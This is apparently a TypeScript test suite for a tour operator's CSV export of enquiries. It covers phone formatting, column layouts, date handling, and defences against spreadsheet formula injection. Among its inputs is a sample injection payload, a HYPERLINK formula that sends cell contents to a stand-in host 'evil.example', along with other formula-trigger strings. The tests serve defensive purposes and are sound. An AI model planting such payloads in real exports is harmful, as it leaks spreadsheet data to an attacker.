import fc from 'fast-check';
import { BYTE_ORDER_MARK, neutralise } from '@/lib/platform/format/csv';
import { toExportFileName, toExportLine, toHeaderLine, type ExportRow } from '@/lib/requests/export/export';
import { NO_VALUES } from '@/lib/requests/derived-fields';
import { toPhoneCell } from '@/lib/requests/export/phone-cell';
import { toE164 } from '@/lib/requests/enquiries/phone-number';
import { EXPORT_LAYOUTS } from '@/lib/requests/inbox/schema';
import { readCsv } from './read-csv';

function makeRow(fields: Partial<ExportRow> = {}): ExportRow {
  return {
    source: 'website',
    id: '6f1c2f1e-3f0e-4a53-9d29-0f6f6a1b2c3d',
    customerName: 'ആശ മേനോൻ',
    email: 'asha@example.com',
    phone: '98470 12345',
    title: 'Heart of Kerala',
    packagePrice: 14_000,
    costMin: null,
    agreedTotal: null,
    message: 'Adults: 2, Children: 1\nWe love "slow" boats.',
    status: 'new',
    receivedAt: '2026-11-20T20:15:30.123456Z',
    full: {
      reference: 'KT-7F3K9Q',
      received: '2026-11-21 01:45',
      travelDate: '2027-01-15',
      handledBy: 'meera',
      adults: 2,
      children: 1,
      ages: [4],
      groupSize: null,
      priceShown: '',
      priceTotal: 42_000,
      followUp: '2026-11-25 18:00',
      firstContact: null,
      ...NO_VALUES,
      expectedAmount: 90_000,
      closeReason: 'price',
      closeNote: 'by ₹4,000',
      termsVersion: 3,
      leadSource: 'referral',
      leadDetail: 'Anil Kumar',
    },
    ...fields,
  };
}

describe('an exported phone number is shown unchanged by spreadsheet programs and can be imported again', () => {
  it.each([
    ['+919847012345', '(+91) 98470 12345', '+919847012345'],
    ['+91 98470-12345', '(+91) 98470 12345', '+919847012345'],
    ['919847012345', '(+91) 98470 12345', '+919847012345'],
    ['9847012345', '98470 12345', '+919847012345'],
    ['98470 12345', '98470 12345', '+919847012345'],
    ['09847012345', '098470 12345', '+919847012345'],
    ['04842345678', '0484 234 5678', '+914842345678'],
    ['0484 2345678', '0484 2345678', '+914842345678'],
    ['+447911123456', '(+44) 7911 123456', '+447911123456'],
    ['447911123456', '(+44) 7911 123456', '+447911123456'],
    ['+112012000000', '(+11) 2012000000', '+12012000000'],
    ['+99912345', '(+99) 912345', null],
    ['12345678', '12345 678', '+9112345678'],
  ])('the phone number %s is exported as %s, which has the E.164 form %s', (typed, shown, e164) => {
    for (const layout of EXPORT_LAYOUTS) {
      const cells = readCsv(toExportLine(makeRow({ phone: typed }), layout))[0];
      expect(cells).toContain(shown);
    }
    expect(toE164(shown)).toBe(e164);
    expect(toPhoneCell(shown)).toBe(shown);
  });

  it('an exported phone number has all its digits, no apostrophe before it, and is not read as a number', () =>
    fc.assert(
      fc.property(fc.stringMatching(/^\+?[0-9](?:[ -]?[0-9]){6,14}$/), (typed) => {
        const shown = neutralise(toPhoneCell(typed));
        expect(shown).not.toMatch(/^'|^[+\d]\d*$/);
        expect(shown.replace(/\D/g, '')).toBe(typed.replace(/\D/g, ''));
      }),
    ));
});

it('the export layouts start with a byte order mark and the header of their columns', () => {
  expect(toHeaderLine('service')).toBe(
    '\uFEFFID,Customer Name,Email,Phone,Tour Title,Message,Enquiry Date,Status,Source\r\n',
  );
  expect(toHeaderLine('list')).toBe('\uFEFFName,Email,Phone,Package,Price,Status,Date,Message\r\n');
  expect(BYTE_ORDER_MARK).toHaveLength(1);
});

it('the file name of every export layout contains the date in Kerala', () => {
  const lateInLondon = new Date('2026-11-21T19:00:00Z');
  expect(toExportFileName('service', lateInLondon)).toBe('enquiries_2026-11-22.csv');
  expect(toExportFileName('list', lateInLondon)).toBe('enquiries_list_2026-11-22.csv');
  expect(toExportFileName('full', lateInLondon)).toBe('enquiries_full_2026-11-22.csv');
});

it('the export layout “service” contains all values verbatim, with ISO timestamps', () => {
  expect(readCsv(toExportLine(makeRow(), 'service'))).toEqual([
    [
      '6f1c2f1e-3f0e-4a53-9d29-0f6f6a1b2c3d',
      'ആശ മേനോൻ',
      'asha@example.com',
      '98470 12345',
      'Heart of Kerala',
      'Adults: 2, Children: 1\nWe love "slow" boats.',
      '2026-11-20T20:15:30.123Z',
      'new',
      'website',
    ],
  ]);
});

it('the layout “list” has no commas or line breaks in its messages, and dates in Kerala time', () => {
  expect(readCsv(toExportLine(makeRow(), 'list'))).toEqual([
    [
      'ആശ മേനോൻ',
      'asha@example.com',
      '98470 12345',
      'Heart of Kerala',
      '14000',
      'new',
      '21/11/2026',
      'Adults: 2; Children: 1 We love "slow" boats.',
    ],
  ]);
});

it('the layout “full” has the expected amount, the reason for closing and the version of the terms', () => {
  const header = readCsv(toHeaderLine('full'))[0] ?? [];
  const [cells = []] = readCsv(toExportLine(makeRow(), 'full'));
  const read = (column: string) => cells[header.indexOf(column)];
  expect(['Expected amount', 'Status', 'Why closed', 'Terms version'].map(read)).toEqual([
    '90000',
    'new',
    'Price too high: by ₹4,000',
    '3',
  ]);
});

it.each([
  ['a\r\nb', 'a b'],
  ['a\rb', 'a b'],
  ['a\n\nb', 'a  b'],
  ['a,b,,c', 'a;b;;c'],
])('the export layout “list” changes the message %j to %j', (message, written) => {
  expect(readCsv(toExportLine(makeRow({ message }), 'list'))[0]?.[7]).toBe(written);
});

it('the export layouts leave missing values empty and call a missing package General', () => {
  const bare = makeRow({ email: null, title: ' ', packagePrice: null, message: '' });
  expect(readCsv(toExportLine(bare, 'list'))[0]).toEqual([
    'ആശ മേനോൻ',
    '',
    '98470 12345',
    'General',
    '',
    'new',
    '21/11/2026',
    '',
  ]);
  expect(readCsv(toExportLine(bare, 'service'))[0]?.slice(2, 6)).toEqual(['', '98470 12345', ' ', '']);
});

it('the export layouts contain the title of a plan and the lower end of its estimate', () => {
  const plan = makeRow({
    source: 'custom_planner',
    title: 'Relaxing Houseboat Kerala',
    packagePrice: null,
    costMin: 9_775,
  });
  expect(readCsv(toExportLine(plan, 'list'))[0]?.slice(3, 5)).toEqual(['Relaxing Houseboat Kerala', '9775']);
  expect(readCsv(toExportLine(plan, 'service'))[0]?.at(-1)).toBe('custom_planner');
});

it.each([
  '=HYPERLINK("http://evil.example?x="&A1,"Click")',
  '+919847012345',
  '-2+3',
  '@SUM(A1)',
  '=1+1',
  '\t=1+1',
  '\r=1+1',
  '\tword',
  ' =1',
  '  +1',
  '\u00A0=1',
  '\uFEFF=1',
  '\u200B=1',
  '"=1',
  "'=1",
  '“=1',
  '` =1',
  '\n=1',
  '＝1+1',
  '＋91',
  '－1',
  '＠x',
  '﹦1',
  '−1',
])('the export puts a quote before the cell %j, which a spreadsheet program could execute', (cell) => {
  expect(neutralise(cell)).toBe(`'${cell}`);
});

it.each([
  'Asha',
  '98470 12345',
  'a=b',
  'x@example.com',
  '5 - 6 days',
  'ആശ',
  '',
  ' ',
  '"',
  '(+91) 98',
  '₹500',
  '#1',
  '1 = 1',
])('the export leaves the harmless cell %j unchanged', (cell) => {
  expect(neutralise(cell)).toBe(cell);
});

it('the export also puts a quote after a semicolon, which separates cells in some locales', () => {
  expect(neutralise('yes,=1+1; =2')).toBe("yes,=1+1;' =2");
  expect(readCsv(toExportLine(makeRow({ message: 'yes,=cmd' }), 'list'))[0]?.[7]).toBe("yes;'=cmd");
});

it('no exported cell can be executed by a spreadsheet program, for any text', () => {
  const tricky = fc.string({
    unit: fc.constantFrom(
      '=',
      '+',
      '-',
      '@',
      '\t',
      '\r',
      '\n',
      ' ',
      '"',
      "'",
      ';',
      ',',
      'a',
      '1',
      '＝',
      '\u00A0',
    ),
  });
  fc.assert(
    fc.property(tricky, fc.constantFrom(...EXPORT_LAYOUTS), (text, layout) => {
      const row = makeRow({
        customerName: text,
        email: text,
        phone: text,
        title: text,
        message: text,
      });
      const cells = readCsv(toExportLine(row, layout))[0] ?? [];
      for (const cell of cells) {
        const pieces = cell.split(';');
        for (const piece of pieces) expect(piece).not.toMatch(/^[\s"]*[=+\-@＝]/);
        expect(cell).not.toMatch(/^[\t\r]/);
      }
    }),
  );
});

it('a line of the export is parsed to the cells that were written, for any content', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'grapheme' }), fc.string({ unit: 'binary' }), (customerName, message) => {
      const line = toExportLine(makeRow({ customerName, message }), 'service');
      const [cells, ...more] = readCsv(line);
      expect(more).toEqual([]);
      expect(cells).toHaveLength(9);
      expect(cells?.[1]).toBe(neutralise(customerName));
      expect(cells?.[5]).toBe(neutralise(message));
    }),
  );
});

it('a message in the export layout “list” never has a comma or line break', () => {
  fc.assert(
    fc.property(fc.string({ unit: fc.constantFrom(',', '\n', '\r', '"', 'x', ';') }), (message) => {
      expect(readCsv(toExportLine(makeRow({ message }), 'list'))[0]?.[7]).not.toMatch(/[,\r\n]/);
    }),
  );
});

it('every line of the export is a separate record, whatever its message contains', () => {
  const file =
    toHeaderLine('service') +
    [1, 2, 3].map((n) => toExportLine(makeRow({ message: `"${n}"\r\n` }), 'service')).join('');
  expect(readCsv(file.slice(1)).map((cells) => cells[5])).toEqual([
    'Message',
    '"1"\r\n',
    '"2"\r\n',
    '"3"\r\n',
  ]);
});
